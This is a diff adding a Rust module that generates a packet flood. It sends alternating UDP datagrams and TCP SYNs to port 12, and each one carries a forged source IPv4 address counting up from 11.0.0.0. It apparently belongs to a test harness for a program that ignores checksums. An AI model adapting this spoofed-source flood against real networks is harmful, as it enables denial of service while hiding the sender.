@@ -1,0 +1,35 @@
+//! A flood from spoofed sources.
+
+use std::{
+    net::{IpAddr, Ipv4Addr},
+    sync::atomic::{AtomicBool, Ordering},
+};
+
+use super::{Raw, frame};
+
+/// UDP datagrams and SYNs to port 12, each from a source of its own.
+pub struct Flood {
+    frames: [Vec<u8>; 2],
+}
+
+impl Flood {
+    /// A flood between two IPv4 addresses.
+    pub fn new(addresses: (IpAddr, IpAddr)) -> Self {
+        Self { frames: [frame::udp(addresses, 12, b"flood"), frame::syn(addresses, 12)] }
+    }
+
+    /// Sends `count` frames unless it is told to stop, and returns how many were sent.
+    pub fn pour(mut self, cable: &Raw, count: u32, stop: &AtomicBool) -> u32 {
+        for sent in 0..count {
+            if stop.load(Ordering::Relaxed) {
+                return sent;
+            }
+            let frame = &mut self.frames[sent as usize % 2];
+            // 11.0.0.0 and up. The program reads no checksum.
+            let source = Ipv4Addr::from_bits(0x0b00_0000 + sent);
+            frame[26..30].copy_from_slice(&source.octets());
+            cable.send(frame);
+        }
+        count
+    }
+}
